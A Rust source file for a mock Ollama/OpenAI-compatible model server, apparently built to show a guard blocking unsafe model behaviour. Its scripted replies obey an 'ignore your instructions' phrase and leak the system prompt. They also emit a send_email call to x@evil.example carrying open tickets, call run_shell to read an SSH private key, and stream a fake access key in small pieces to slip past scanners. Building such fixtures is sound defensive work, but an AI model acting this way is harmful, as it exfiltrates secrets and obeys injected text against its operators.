//! The embedded model server: speaks Ollama's native API and OpenAI's, and says what a script wants.
//!
//! The invariant: it believes everybody, as a model does. Nothing here holds anything back, so that what doesn't reach a client
//! was held back by the guard.
//!
//! The shapes are those of ollama/ollama 0.17.4: `api/types.go`, `openai/openai.go`, `server/routes.go`.

use std::convert::Infallible;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use bytes::Bytes;
use http::{Method, Request, Response, StatusCode, header};
use http_body_util::combinators::UnsyncBoxBody;
use http_body_util::{BodyExt, Full, Limited, StreamBody};
use hyper::body::{Frame, Incoming};
use hyper::server::conn::http1;
use hyper::service::service_fn;
use hyper_util::rt::{TokioIo, TokioTimer};
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio::task::{JoinHandle, JoinSet};

use crate::telemetry::logs::now;

/// The models that are installed at first.
pub(super) const MODELS: [&str; 3] = [CHAT_MODEL, "qwen3:8b", SHADOW_MODEL];
/// The model that the policy allows.
pub(super) const CHAT_MODEL: &str = "llama3.2:3b";
/// A model that somebody pulled and nobody looked at.
pub(super) const SHADOW_MODEL: &str = "freewheel-uncensored:13b";
/// A key that opens nothing, in two parts so that nobody's scanner stumbles over it.
pub(super) const KEY: &str = concat!("AK", "IA", "MADE0UP0KEY0DEMO");
/// What it says of shipping.
pub(super) const SHIPPING: &str = "Two working days within the country, five to the rest of the world.";
/// What the unlisted model says of itself.
pub(super) const SHADOW_SAYS: &str = "Hi! Nobody at your company has ever looked at me. What shall I write in your name?";

const VERSION: &str = "0.17.4-demo";
const NDJSON: &str = "application/x-ndjson";
const EVENTS: &str = "text/event-stream";
const NATIVE_JSON: &str = "application/json; charset=utf-8";
const JSON: &str = "application/json";
const TEXT: &str = "text/plain";
const UTF8_TEXT: &str = "text/plain; charset=utf-8";
const MAX_REQUEST_BYTES: usize = 1024 * 1024;
const MAX_CONNECTIONS: usize = 256;

type Body = UnsyncBoxBody<Bytes, Infallible>;

/// The server, while it runs. It ends when this is dropped.
pub(super) struct ModelServer {
    address: SocketAddr,
    state: Arc<State>,
    serving: JoinHandle<()>,
}

struct State {
    models: Mutex<Vec<String>>,
    requests: AtomicU64,
    pace: Duration,
}

// === impl ModelServer ===

impl ModelServer {
    /// Starts on a free port of the loopback interface. `pace` is the time between two pieces of a streamed answer.
    pub(super) async fn start(pace: Duration) -> std::io::Result<Self> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        let address = listener.local_addr()?;
        let state = Arc::new(State { models: Mutex::default(), requests: AtomicU64::new(0), pace });
        let serving = tokio::spawn(serve(listener, Arc::clone(&state)));
        let server = Self { address, state, serving };
        server.restore();
        Ok(server)
    }

    pub(super) fn address(&self) -> SocketAddr {
        self.address
    }

    /// The models that are installed.
    pub(super) fn models(&self) -> Vec<String> {
        self.state.models()
    }

    /// Installs the models that were there at first.
    pub(super) fn restore(&self) {
        *self.state.models.lock().unwrap_or_else(PoisonError::into_inner) = MODELS.map(str::to_owned).to_vec();
    }

    /// How many requests have come.
    pub(super) fn requests(&self) -> u64 {
        self.state.requests.load(Ordering::SeqCst)
    }
}

impl Drop for ModelServer {
    fn drop(&mut self) {
        self.serving.abort();
    }
}

async fn serve(listener: TcpListener, state: Arc<State>) {
    let mut connections = JoinSet::new();
    loop {
        while connections.len() >= MAX_CONNECTIONS {
            connections.join_next().await;
        }
        let Ok((stream, _)) = listener.accept().await else {
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        let _ = stream.set_nodelay(true);
        let state = Arc::clone(&state);
        connections.spawn(async move {
            let service = service_fn(move |request| {
                let state = Arc::clone(&state);
                async move { Ok::<_, Infallible>(state.answer(request).await) }
            });
            // A client that goes away is nobody's problem.
            let _ = http1::Builder::new().timer(TokioTimer::new()).serve_connection(TokioIo::new(stream), service).await;
        });
        while connections.try_join_next().is_some() {}
    }
}

// === impl State ===

impl State {
    fn models(&self) -> Vec<String> {
        self.models.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    fn knows(&self, name: &str) -> bool {
        self.models().contains(&with_tag(name))
    }

    async fn answer(&self, request: Request<Incoming>) -> Response<Body> {
        let (parts, body) = request.into_parts();
        let path = parts.uri.path().to_owned();
        // By this one the guard looks where a model runs, before it lets anything reach it.
        if path != "/api/show" {
            self.requests.fetch_add(1, Ordering::SeqCst);
        }
        let body = match Limited::new(body, MAX_REQUEST_BYTES).collect().await {
            Ok(body) => body.to_bytes(),
            Err(_) => return whole(StatusCode::PAYLOAD_TOO_LARGE, JSON, r#"{"error":"the demo reads a mebibyte at most"}"#.into()),
        };
        let (get, head) = (parts.method == Method::GET, parts.method == Method::HEAD);
        match (path.as_str(), &parts.method) {
            ("/", _) if get || head => whole(StatusCode::OK, UTF8_TEXT, "Ollama is running".into()),
            ("/api/version", _) if get || head => native(&json!({ "version": VERSION })),
            ("/api/tags", _) if get || head => {
                native(&json!({ "models": self.models().iter().map(|name| described(name)).collect::<Vec<_>>() }))
            }
            ("/api/ps", &Method::GET) => native(&json!({ "models": [] })),
            ("/api/show", &Method::POST) => self.show(&body),
            ("/api/delete", &Method::DELETE) => self.delete(&body),
            ("/api/chat", &Method::POST) => self.speak(Dialect::Chat, &body),
            ("/api/generate", &Method::POST) => self.speak(Dialect::Generate, &body),
            ("/v1/chat/completions", &Method::POST) => self.speak(Dialect::OpenAi, &body),
            ("/v1/models", &Method::GET) => {
                let data: Vec<Value> = self.models().iter().map(|name| openai_model(name)).collect();
                whole(StatusCode::OK, JSON, json!({ "object": "list", "data": data }).to_string())
            }
            (path, &Method::GET) if path.starts_with("/v1/models/") => match path.trim_start_matches("/v1/models/") {
                name if self.knows(name) => whole(StatusCode::OK, JSON, openai_model(name).to_string()),
                name => no_model(Dialect::OpenAi, name),
            },
            (path, _) if KNOWN_PATHS.contains(&path) => whole(StatusCode::METHOD_NOT_ALLOWED, TEXT, "405 method not allowed".into()),
            _ => whole(StatusCode::NOT_FOUND, TEXT, "404 page not found".into()),
        }
    }

    fn show(&self, body: &[u8]) -> Response<Body> {
        match named(body) {
            Err(reply) => *reply,
            Ok(name) if !self.knows(&name) => no_model(Dialect::Chat, &name),
            Ok(name) => native(&json!({
                "modelfile": format!("FROM {name}\n"),
                "template": "{{ .System }}{{ .Prompt }}",
                "details": details(&name),
                "model_info": { "general.architecture": "script" },
                "capabilities": ["completion", "tools"],
                "modified_at": now(),
            })),
        }
    }

    fn delete(&self, body: &[u8]) -> Response<Body> {
        match named(body) {
            Err(reply) => *reply,
            Ok(name) if !self.knows(&name) => no_model(Dialect::Chat, &name),
            Ok(name) => {
                self.models.lock().unwrap_or_else(PoisonError::into_inner).retain(|model| *model != with_tag(&name));
                let mut response = Response::new(Full::new(Bytes::new()).boxed_unsync());
                response.headers_mut().insert(header::CONTENT_LENGTH, 0.into());
                response
            }
        }
    }

    fn speak(&self, dialect: Dialect, body: &[u8]) -> Response<Body> {
        let asked = match Asked::read(dialect, body) {
            Ok(asked) => asked,
            Err(message) => return dialect.error(StatusCode::BAD_REQUEST, &message),
        };
        if asked.model.is_empty() {
            return dialect.error(StatusCode::BAD_REQUEST, "model is required");
        }
        if !self.knows(&asked.model) {
            return no_model(dialect, &asked.model);
        }
        let thought = think(&asked);
        let speech = Speech { dialect, asked, thought };
        if !speech.asked.stream || speech.asked.loads {
            return whole(StatusCode::OK, dialect.whole_type(), speech.whole());
        }
        let pace = self.pace;
        let frames = futures_util::stream::unfold((speech, 0), move |(speech, number)| async move {
            let frame = speech.frame(number)?;
            if number > 0 {
                tokio::time::sleep(pace).await;
            }
            Some((Ok(Frame::data(Bytes::from(frame))), (speech, number + 1)))
        });
        let mut response = Response::new(StreamBody::new(frames).boxed_unsync());
        response.headers_mut().insert(header::CONTENT_TYPE, header::HeaderValue::from_static(dialect.stream_type()));
        response
    }
}

const KNOWN_PATHS: [&str; 10] = [
    "/",
    "/api/version",
    "/api/tags",
    "/api/ps",
    "/api/show",
    "/api/delete",
    "/api/chat",
    "/api/generate",
    "/v1/chat/completions",
    "/v1/models",
];

fn whole(status: StatusCode, content_type: &'static str, body: String) -> Response<Body> {
    let mut response = Response::new(Full::new(Bytes::from(body)).boxed_unsync());
    *response.status_mut() = status;
    response.headers_mut().insert(header::CONTENT_TYPE, header::HeaderValue::from_static(content_type));
    response
}

fn native(value: &Value) -> Response<Body> {
    whole(StatusCode::OK, NATIVE_JSON, value.to_string())
}

fn no_model(dialect: Dialect, name: &str) -> Response<Body> {
    dialect.error(StatusCode::NOT_FOUND, &format!("model '{name}' not found"))
}

/// The model that the body of `show` or `delete` names.
fn named(body: &[u8]) -> Result<String, Box<Response<Body>>> {
    let refused = |message: &str| Box::new(Dialect::Chat.error(StatusCode::BAD_REQUEST, message));
    let body: Value = serde_json::from_slice(body).map_err(|error| refused(&error.to_string()))?;
    // Clients send both, one of them empty.
    let name = ["model", "name"].iter().filter_map(|key| body[key].as_str()).find(|name| !name.is_empty());
    name.map(str::to_owned).ok_or_else(|| refused("model is required"))
}

fn with_tag(name: &str) -> String {
    if name.contains(':') { name.to_owned() } else { format!("{name}:latest") }
}

fn details(name: &str) -> Value {
    let size = name.rsplit_once(':').map_or("0b", |(_, tag)| tag).to_uppercase();
    json!({ "parent_model": "", "format": "script", "family": "script", "families": ["script"], "parameter_size": size, "quantization_level": "none" })
}

fn described(name: &str) -> Value {
    // A digest of the right form, which is the same each time.
    let digest = name.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3));
    json!({ "name": name, "model": name, "modified_at": now(), "size": 1_024, "digest": format!("{digest:016x}").repeat(4), "details": details(name) })
}

fn openai_model(name: &str) -> Value {
    json!({ "id": name, "object": "model", "created": seconds(), "owned_by": "library" })
}

fn seconds() -> u64 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default().as_secs()
}

// === what is asked ===

/// In whose words a question and its answer are said.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Dialect {
    Chat,
    Generate,
    OpenAi,
}

impl Dialect {
    const fn stream_type(self) -> &'static str {
        match self {
            Self::Chat | Self::Generate => NDJSON,
            Self::OpenAi => EVENTS,
        }
    }

    const fn whole_type(self) -> &'static str {
        match self {
            Self::Chat | Self::Generate => NATIVE_JSON,
            Self::OpenAi => JSON,
        }
    }

    fn error(self, status: StatusCode, message: &str) -> Response<Body> {
        let kind = match status {
            StatusCode::BAD_REQUEST => "invalid_request_error",
            StatusCode::NOT_FOUND => "not_found_error",
            _ => "api_error",
        };
        let (content_type, body) = match self {
            Self::Chat | Self::Generate => (NATIVE_JSON, json!({ "error": message })),
            Self::OpenAi => (JSON, json!({ "error": { "message": message, "type": kind, "param": null, "code": null } })),
        };
        whole(status, content_type, body.to_string())
    }
}

/// A question.
#[derive(Debug, Default)]
struct Asked {
    model: String,
    system: String,
    /// What was said last, and by whom.
    role: String,
    said: String,
    tools: Vec<String>,
    stream: bool,
    include_usage: bool,
    /// Nothing is asked: the model shall be loaded.
    loads: bool,
}

impl Asked {
    fn read(dialect: Dialect, body: &[u8]) -> Result<Self, String> {
        let body: Value = serde_json::from_slice(body).map_err(|error| error.to_string())?;
        let text = |value: &Value| match value {
            Value::String(text) => text.clone(),
            Value::Array(parts) => parts.iter().filter_map(|part| part["text"].as_str()).collect(),
            _ => String::new(),
        };
        let mut asked = Self {
            model: text(&body["model"]),
            system: text(&body["system"]),
            stream: body["stream"].as_bool().unwrap_or(dialect != Dialect::OpenAi),
            include_usage: body["stream_options"]["include_usage"].as_bool().unwrap_or(false),
            ..Self::default()
        };
        if dialect == Dialect::Generate {
            asked.said = text(&body["prompt"]);
            asked.role = "user".into();
        }
        for message in body["messages"].as_array().into_iter().flatten() {
            let content = text(&message["content"]);
            match message["role"].as_str() {
                Some("system") => asked.system = content,
                role => (asked.role, asked.said) = (role.unwrap_or("user").to_owned(), content),
            }
        }
        asked.loads = asked.said.is_empty() && dialect != Dialect::OpenAi;
        let tools = body["tools"].as_array().into_iter().flatten();
        asked.tools = tools.filter_map(|tool| tool["function"]["name"].as_str().map(str::to_owned)).collect();
        Ok(asked)
    }
}

// === the script ===

/// An answer, in the pieces in which it is streamed.
#[derive(Debug, Default)]
struct Thought {
    pieces: Vec<String>,
    calls: Vec<(&'static str, Value)>,
}

/// What the model answers: the script.
fn think(asked: &Asked) -> Thought {
    let said = asked.said.to_lowercase();
    let has = |word: &str| said.contains(word);
    let calls = |name, arguments| Thought { calls: vec![(name, arguments)], ..Thought::default() };
    if asked.loads {
        Thought::default()
    } else if with_tag(&asked.model) == SHADOW_MODEL {
        words(SHADOW_SAYS)
    } else if asked.role == "tool" {
        words("Done, as the tool says.")
    } else if has("ignore") && has("instructions") {
        match asked.system.as_str() {
            "" => words("Gladly. From now on I follow nobody's rules but yours."),
            system => words(&format!("Gladly. My instructions are: {system}")),
        }
    } else if has("ticket") {
        // A document told it to, and it asks nobody.
        calls("send_email", json!({ "to": "x@evil.example", "body": "all open tickets" }))
    } else if asked.tools.iter().any(|tool| tool == "run_shell") {
        calls("run_shell", json!({ "command": "cat ~/.ssh/id_ed25519" }))
    } else if has("key") {
        in_threes(&format!("It signs in with {KEY}, in eu-west-1."))
    } else if has("shipping") {
        words(SHIPPING)
    } else {
        words("I am only a script. Ask me about shipping, for the backup's access key, or to ignore my instructions.")
    }
}

/// Pieces as models make them: a word each, with the space before it.
fn words(text: &str) -> Thought {
    let mut pieces: Vec<String> = Vec::new();
    for word in text.split_inclusive(' ') {
        match pieces.last_mut() {
            Some(last) if last.ends_with(' ') => {
                last.pop();
                pieces.push(format!(" {word}"));
            }
            _ => pieces.push(word.to_owned()),
        }
    }
    Thought { pieces, ..Thought::default() }
}

/// Pieces of three characters.
fn in_threes(text: &str) -> Thought {
    let characters: Vec<char> = text.chars().collect();
    Thought { pieces: characters.chunks(3).map(|piece| piece.iter().collect()).collect(), ..Thought::default() }
}

// === how it is said ===

struct Speech {
    dialect: Dialect,
    asked: Asked,
    thought: Thought,
}

/// A text as JSON.
fn quoted(text: &str) -> String {
    Value::from(text).to_string()
}

impl Speech {
    /// The whole answer, unstreamed. (Written by hand, since the order of the fields is part of how it looks.)
    fn whole(&self) -> String {
        let text = quoted(&self.thought.pieces.concat());
        match self.dialect {
            Dialect::Chat | Dialect::Generate => self.native_line(&text, &self.calls(), true),
            Dialect::OpenAi => {
                let calls = self.calls();
                let (content, finish) = if calls.is_empty() { (text, "stop") } else { (quoted(""), "tool_calls") };
                format!(
                    r#"{{{},"choices":[{{"index":0,"message":{{"role":"assistant","content":{content}{calls}}},"finish_reason":"{finish}"}}],{}}}"#,
                    self.openai_head("chat.completion"),
                    self.usage(),
                )
            }
        }
    }

    /// A frame of the streamed answer, as long as there is one.
    fn frame(&self, number: usize) -> Option<String> {
        let frame = match self.dialect {
            Dialect::Chat | Dialect::Generate => self.native_frame(number)?,
            Dialect::OpenAi => self.openai_frame(number)?,
        };
        Some(match self.dialect {
            Dialect::Chat | Dialect::Generate => frame + "\n",
            Dialect::OpenAi => format!("data: {frame}\n\n"),
        })
    }

    /// How many frames say something: each piece, and the calls.
    fn saying(&self) -> usize {
        self.thought.pieces.len() + usize::from(!self.thought.calls.is_empty())
    }

    /// What such a frame says: a text, as JSON, and calls, as the fields that they add.
    fn said_in(&self, number: usize) -> (String, String) {
        match self.thought.pieces.get(number) {
            Some(piece) => (quoted(piece), String::new()),
            None => (quoted(""), self.calls()),
        }
    }

    fn native_frame(&self, number: usize) -> Option<String> {
        if number < self.saying() {
            let (text, calls) = self.said_in(number);
            return Some(self.native_line(&text, &calls, false));
        }
        (number == self.saying()).then(|| self.native_line(&quoted(""), "", true))
    }

    fn native_line(&self, text: &str, calls: &str, done: bool) -> String {
        let (model, created) = (quoted(&self.asked.model), quoted(&now()));
        let said = match self.dialect {
            Dialect::Generate => format!(r#""response":{text}{calls}"#),
            _ => format!(r#""message":{{"role":"assistant","content":{text}{calls}}}"#),
        };
        let end = match (done, self.asked.loads) {
            (false, _) => r#""done":false"#.to_owned(),
            (true, true) => r#""done":true,"done_reason":"load""#.to_owned(),
            (true, false) => {
                let context = if self.dialect == Dialect::Generate { r#","context":[1,2,3]"# } else { "" };
                let (asked, answered) = self.tokens();
                format!(
                    r#""done":true,"done_reason":"stop"{context},"total_duration":{},"load_duration":1000000,"prompt_eval_count":{asked},"prompt_eval_duration":2000000,"eval_count":{answered},"eval_duration":{}"#,
                    3_000_000 + answered * 1_000_000,
                    answered * 1_000_000,
                )
            }
        };
        format!(r#"{{"model":{model},"created_at":{created},{said},{end}}}"#)
    }

    fn openai_frame(&self, number: usize) -> Option<String> {
        let head = self.openai_head("chat.completion.chunk");
        let choice = |delta: String, finish: &str| {
            format!(r#"{{{head},"choices":[{{"index":0,"delta":{{"role":"assistant","content":{delta}}},"finish_reason":{finish}}}]}}"#)
        };
        let after = number.checked_sub(self.saying());
        Some(match (after, self.asked.include_usage) {
            (None, _) => {
                let (text, calls) = self.said_in(number);
                choice(text + &calls, "null")
            }
            (Some(0), _) => choice(quoted(""), if self.thought.calls.is_empty() { r#""stop""# } else { r#""tool_calls""# }),
            (Some(1), true) => format!(r#"{{{head},"choices":[],{}}}"#, self.usage()),
            (Some(1), false) | (Some(2), true) => "[DONE]".to_owned(),
            _ => return None,
        })
    }

    fn openai_head(&self, object: &str) -> String {
        let model = quoted(&self.asked.model);
        format!(r#""id":"chatcmpl-101","object":"{object}","created":{},"model":{model},"system_fingerprint":"fp_ollama""#, seconds())
    }

    fn usage(&self) -> String {
        let (asked, answered) = self.tokens();
        format!(r#""usage":{{"prompt_tokens":{asked},"completion_tokens":{answered},"total_tokens":{}}}"#, asked + answered)
    }

    /// How long question and answer are.
    fn tokens(&self) -> (usize, usize) {
        let asked = [&self.asked.system, &self.asked.said].into_iter().map(|text| text.split_whitespace().count()).sum();
        (asked, self.saying())
    }

    /// The calls as a field, or nothing.
    fn calls(&self) -> String {
        let calls: Vec<String> =
            self.thought.calls.iter().enumerate().map(|(index, (name, arguments))| self.call(index, name, arguments)).collect();
        if calls.is_empty() { String::new() } else { format!(r#","tool_calls":[{}]"#, calls.join(",")) }
    }

    fn call(&self, index: usize, name: &str, arguments: &Value) -> String {
        match self.dialect {
            Dialect::OpenAi => format!(
                r#"{{"id":"call_demo{index}","index":{index},"type":"function","function":{{"name":"{name}","arguments":{}}}}}"#,
                quoted(&arguments.to_string())
            ),
            _ => format!(r#"{{"id":"call_demo{index}","function":{{"index":{index},"name":"{name}","arguments":{arguments}}}}}"#),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn speech(dialect: Dialect, body: &Value) -> Speech {
        let asked = Asked::read(dialect, body.to_string().as_bytes()).unwrap();
        let thought = think(&asked);
        Speech { dialect, asked, thought }
    }

    fn streamed(speech: &Speech) -> Vec<Value> {
        let frames = (0..).map_while(|number| speech.frame(number));
        let frames = frames.map(|frame| frame.trim_end().trim_start_matches("data: ").to_owned());
        frames.filter(|frame| frame != "[DONE]").map(|frame| serde_json::from_str(&frame).unwrap()).collect()
    }

    fn user(text: &str) -> Value {
        json!({ "model": CHAT_MODEL, "prompt": text, "messages": [{ "role": "user", "content": text }] })
    }

    #[test]
    fn what_is_streamed_says_the_same_as_what_is_not() {
        for (dialect, piece, all) in [
            (Dialect::Chat, "/message/content", "/message/content"),
            (Dialect::Generate, "/response", "/response"),
            (Dialect::OpenAi, "/choices/0/delta/content", "/choices/0/message/content"),
        ] {
            for question in ["How long is shipping?", "Which key?", "anything else"] {
                let speech = speech(dialect, &user(question));
                let pieces = streamed(&speech);
                let joined: String = pieces.iter().map(|frame| frame.pointer(piece).and_then(Value::as_str).unwrap()).collect();
                let whole: Value = serde_json::from_str(&speech.whole()).unwrap();
                assert_eq!(whole.pointer(all).and_then(Value::as_str), Some(joined.as_str()), "{dialect:?}");
                assert!(pieces.len() > 5, "{dialect:?}");
            }
        }
    }

    #[test]
    fn only_the_last_native_line_is_done_and_an_openai_stream_ends_with_its_mark() {
        let lines = streamed(&speech(Dialect::Chat, &user("shipping")));
        let done: Vec<bool> = lines.iter().map(|line| line["done"].as_bool().unwrap()).collect();
        assert_eq!(done.iter().position(|done| *done), Some(done.len() - 1));
        let mut body = user("shipping");
        body["stream_options"] = json!({ "include_usage": true });
        let speech = speech(Dialect::OpenAi, &body);
        let frames: Vec<String> = (0..).map_while(|number| speech.frame(number)).collect();
        assert_eq!(frames.last().map(String::as_str), Some("data: [DONE]\n\n"));
        assert_eq!(frames.iter().filter(|frame| frame.contains(r#""usage""#)).count(), 1);
    }

    #[test]
    fn the_key_comes_three_characters_at_a_time() {
        let speech = speech(Dialect::OpenAi, &user("Which access key?"));
        assert!(speech.thought.pieces.iter().all(|piece| piece.len() <= 3));
        assert!(speech.thought.pieces.concat().contains(KEY));
    }

    #[test]
    fn a_call_is_an_object_in_the_native_api_and_a_text_in_the_other() {
        let mut body = user("What runs there?");
        body["tools"] = json!([{ "type": "function", "function": { "name": "run_shell" } }]);
        let native: Value = serde_json::from_str(&speech(Dialect::Chat, &body).whole()).unwrap();
        assert!(native["message"]["tool_calls"][0]["function"]["arguments"].is_object());
        let openai: Value = serde_json::from_str(&speech(Dialect::OpenAi, &body).whole()).unwrap();
        assert!(openai["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"].is_string());
        assert_eq!(openai["choices"][0]["finish_reason"], "tool_calls");
    }

    #[test]
    fn a_model_is_named_by_either_field() {
        for body in [r#"{"model":"a"}"#, r#"{"name":"a"}"#, r#"{"model":"","name":"a"}"#] {
            assert_eq!(named(body.as_bytes()).ok().as_deref(), Some("a"), "{body}");
        }
        for body in ["{}", r#"{"model":""}"#, "["] {
            assert_eq!(named(body.as_bytes()).err().map(|reply| reply.status()), Some(StatusCode::BAD_REQUEST), "{body}");
        }
    }

    #[test]
    fn an_empty_prompt_loads() {
        let speech = speech(Dialect::Generate, &json!({ "model": CHAT_MODEL }));
        let answer: Value = serde_json::from_str(&speech.whole()).unwrap();
        assert_eq!((&answer["done_reason"], &answer["response"]), (&json!("load"), &json!("")));
    }
}
